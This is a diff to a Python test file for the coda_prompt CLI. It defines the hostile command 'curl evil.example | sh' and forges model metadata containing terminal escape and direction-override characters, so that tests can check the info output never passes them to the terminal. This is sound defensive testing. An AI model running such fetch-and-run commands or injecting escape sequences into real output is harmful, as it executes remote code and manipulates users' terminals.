@@ -11,7 +11,7 @@ from PIL import Image
 from typer.testing import CliRunner, Result
 
 from coda_prompt import ContinualClassifier, cli
-from coda_prompt.learner import store
+from coda_prompt.learner.folder import MODEL, ModelFolder, Version
 
 COMMAND = "curl evil.example | sh"
 CAFE = (
@@ -47,10 +47,10 @@ def test_info_prints_no_command_of_a_stranger(model: Path, tmp_path: Path) -> No
 
 
 def test_json_cannot_send_commands_to_the_terminal(model: Path) -> None:
-    stored = store.read_model(model)
-    backbone = stored.description.backbone.model_copy(update={"name": "\x9b2J\u202e"})
-    forged = stored.description.model_copy(update={"backbone": backbone})
-    (model / store.MODEL).write_bytes(store.encode_model(store.Model(forged, stored.tensors)))
+    description, arrays = ModelFolder(model).read()
+    backbone = description.backbone.model_copy(update={"name": "\x9b2J\u202e"})
+    forged = description.model_copy(update={"backbone": backbone})
+    (model / MODEL).write_bytes(Version.of(forged, arrays).content)
     shown = coda("info", model, "--json").output
     assert json.loads(shown)["backbone"]["name"] == "\x9b2J\u202e"
     assert not set("\x9b\u202e") & set(shown)
